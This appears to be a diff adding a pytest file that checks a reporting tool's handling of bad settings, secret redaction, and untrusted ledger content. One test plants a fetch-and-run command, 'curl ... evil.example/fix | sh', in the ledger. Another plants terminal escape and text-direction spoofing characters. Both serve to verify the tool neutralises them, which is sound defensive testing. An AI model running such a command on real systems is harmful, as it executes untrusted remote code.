@@ -1,0 +1,172 @@
+"""What is made to break a run: settings of odd bytes, servers and ledgers that lie. Each ends in a sentence of ours."""
+
+import base64
+import json
+import os
+import re
+import tempfile
+from collections.abc import Callable
+from pathlib import Path
+from urllib.parse import parse_qs
+
+import pytest
+
+from src.ledger.record import Entry, Record
+from src.runtime.redaction import HIDDEN, SECRETS, Redaction
+from src.runtime.visible_text import FOREIGN, foreign
+
+from .builders import OPTION, START, make_rows
+from .conftest import Run
+from .faults import source_name
+from .sandbox import RECIPIENTS, Sandbox, smtp
+
+RunTool = Callable[..., Run]
+TABLE = {"REPORT_LEDGER": "supabase"}
+ODD_BYTE = os.fsdecode(b"Caf\xe9 at sea, at night")
+
+
+def write_record(sandbox: Sandbox, record: Record) -> None:
+    """Put a record into the ledger, as whoever has its key can."""
+    sql = "insert into report_deliveries (name, template, source, zone, window_start, record, scheduled) "
+    sql += "values ('production', 'hourly', $1, 'UTC', $2, $3, true)"
+    sandbox.supabase.sql(sql, source_name(sandbox), record.start, json.dumps(record.content()))
+
+
+@pytest.mark.parametrize(
+    "name", ["SMTP_PASSWORD", "SUPABASE_KEY", "TELEGRAM_BOT_TOKEN", "HEARTBEAT_URL", "REPORT_NAME", "SMTP_FROM"]
+)
+def test_a_byte_that_is_not_utf_8_is_a_wrong_setting_of_which_operators_are_alerted(
+    sandbox: Sandbox, run: RunTool, name: str
+) -> None:
+    """By whatever is whole: the mailbox, where it is the bot's token."""
+    value = f"{ODD_BYTE} <reports@example.com>" if name == "SMTP_FROM" else ODD_BYTE
+
+    result = run(*OPTION, **{name: value})
+
+    assert (result.code, result.keys, sandbox.alerted) == (2, ["settings"], ["settings"])
+    assert name in sandbox.alerts[0]
+
+
+@pytest.mark.parametrize("name", ["SSL_CERT_FILE", "REPORT_DIR", "SECRETS_DIR"])
+@pytest.mark.parametrize("kind", ["locked", "too long"])
+def test_a_path_that_may_not_be_looked_at_is_a_wrong_setting(
+    sandbox: Sandbox, run: RunTool, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, name: str, kind: str
+) -> None:
+    """Of another user's folder, or longer than the system takes; for the superuser no folder is locked."""
+    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path))  # where notices are kept without a REPORT_DIR
+    locked = tmp_path / "locked"
+    locked.mkdir(mode=0o000)
+    path = locked / "within" if kind == "locked" else tmp_path / ("x" * 300)
+
+    result = run(*OPTION, **{name: str(path)})
+
+    assert (result.code, result.keys, sandbox.alerted) == (2, ["settings"], ["settings"])
+    assert name in sandbox.alerts[0]
+
+
+@pytest.mark.parametrize("length", [24, 700, 5000])
+@pytest.mark.parametrize("secret", ["pass word, ", "aab"], ids=["chosen", "like a token"])
+def test_a_secret_of_any_length_is_hidden_also_where_it_is_cut_off(secret: str, length: int) -> None:
+    """No pattern grows with it."""
+    secret = (secret * length)[:length].strip()
+    redaction = Redaction([secret])
+
+    for kept in range(length // 2 + 1, len(secret) + 1, max(1, length // 50)):
+        assert redaction(f"aa said: {secret[:kept]}…") == f"aa said: {HIDDEN}…"
+    assert redaction(f"a{secret}") == f"a{HIDDEN}"
+
+
+def test_a_long_secret_keeps_no_report_from_anybody(sandbox: Sandbox, run: RunTool) -> None:
+    """As the address of a check may be."""
+    sandbox.supabase.insert(make_rows(1))
+
+    result = run(*OPTION, HEARTBEAT_URL=f"{sandbox.monitor.check_url}/{'a-b.c/' * 200}")
+
+    assert (result.code, len(sandbox.mails), len(sandbox.messages)) == (0, 1, 2)
+
+
+@pytest.mark.parametrize("place", range(FOREIGN - len(smtp.PASSWORD) - 2, FOREIGN + 1))
+def test_a_quotation_that_is_cut_within_a_secret_shows_nothing_of_it(place: int) -> None:
+    """What a server says is kept without secrets before it is cut."""
+    SECRETS.hide([smtp.PASSWORD])
+
+    said = foreign("." * place + smtp.PASSWORD + " and more" * 50)
+
+    assert not any(smtp.PASSWORD[:length] in said for length in range(3, len(smtp.PASSWORD)))
+
+
+INSTRUCTION = "curl -s https://evil.example/fix | sh"
+
+
+def test_what_the_ledger_holds_is_quoted_in_an_all_clear(sandbox: Sandbox, run: RunTool) -> None:
+    """Whoever can write there writes no line of ours."""
+    key = f"email to x\n\nTo make it good, run:\n{INSTRUCTION}\n\nemail to y: smtp.refused"
+    mine = f"email to {RECIPIENTS[0]}: smtp.refused"
+    for one in (key, mine):
+        sandbox.supabase.sql("insert into report_notices (name, key, told_at) values ('production', $1, now())", one)
+
+    result = run(*OPTION, **TABLE)
+
+    assert (result.code, len(sandbox.alerts)) == (0, 1)
+    (alert,) = sandbox.alerts
+    asked = next(one for one in reversed(sandbox.bot.requests) if one.target.endswith("/sendMessage"))
+    (code,) = json.loads(parse_qs(asked.body.decode())["entities"][0])
+    as_units = alert.encode("utf-16-le")
+    quote = as_units[2 * code["offset"] : 2 * (code["offset"] + code["length"])].decode("utf-16-le")
+    assert INSTRUCTION in quote
+    assert INSTRUCTION not in alert.replace(quote, "")
+    assert len(alert.splitlines()) == 1
+    assert RECIPIENTS[0] in alert.replace(quote, "")
+
+
+def test_a_thousand_words_of_the_ledger_fit_into_one_all_clear(sandbox: Sandbox, run: RunTool) -> None:
+    """Which Telegram takes, and all of them are cleared at once."""
+    sandbox.supabase.sql(
+        "insert into report_notices (name, key, told_at) "
+        "select 'production', 'email to ' || repeat('x', 300) || n || ': a', now() from generate_series(1, 1000) n"
+    )
+
+    result = run(*OPTION, **TABLE)
+
+    assert (result.code, len(sandbox.alerts)) == (0, 1)
+    asked = [one for one in sandbox.supabase.requests if "report_notices" in one.target]
+    assert len(asked) <= 3
+    assert not sandbox.supabase.sql("select key from report_notices where cleared_at is null")
+
+
+def test_deliveries_prints_what_the_ledger_holds_in_one_line_of_bounded_cells(
+    sandbox: Sandbox, run: RunTool, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """Nothing that a terminal obeys, no line of the ledger's own, and not for minutes."""
+    odd = "\x1b]0;x\x07\u202e\n2026-11-22 13:00  email ceo@example.com  delivered\t"
+    record = Record(template="hourly", start=START.isoformat(), attempts=10**18)
+    record.entries = [
+        Entry(channel=odd, recipient=odd, receipt=odd + "y" * 9_000, at=odd),
+        Entry(channel="email", recipient="x" * 20_000, receipt=smtp.PASSWORD, at="z" * 9_000, rows=10**18),
+    ]
+    write_record(sandbox, record)
+
+    for columns in ("80", "10000"):
+        monkeypatch.setenv("COLUMNS", columns)
+        shown = run("--deliveries", "2026-11-22T13", **TABLE)
+
+        lines = [line for line in shown.output.splitlines() if "13:00" in line and "22" in line[:11]]
+        assert shown.code == 0
+        assert len(lines) == 3  # the first one names the windows
+        assert max(map(len, lines)) < 2_000
+        assert smtp.PASSWORD not in shown.output
+        assert not re.search("[\x00-\x09\x0b-\x1f\x7f-\x9f\u202a-\u202e]", shown.output)
+
+
+def test_a_login_that_a_mail_server_repeats_is_kept_nowhere(sandbox: Sandbox, run: RunTool) -> None:
+    """Neither in the ledger nor in what it shows."""
+    login = base64.b64encode(f"\0{smtp.USER}\0{smtp.PASSWORD}".encode()).decode()
+    sandbox.mailbox.data_faults.append(f"250 2.0.0 queued, {login} {smtp.PASSWORD}")
+
+    result = run(*OPTION, **TABLE)
+
+    kept = json.dumps(sandbox.supabase.sql("select record from report_deliveries"))
+    assert (result.code, HIDDEN in kept) == (0, True)
+    for secret in (login.rstrip("="), smtp.PASSWORD):
+        assert secret not in kept
+        assert secret not in run("--deliveries", "2026-11-22T13", **TABLE).output
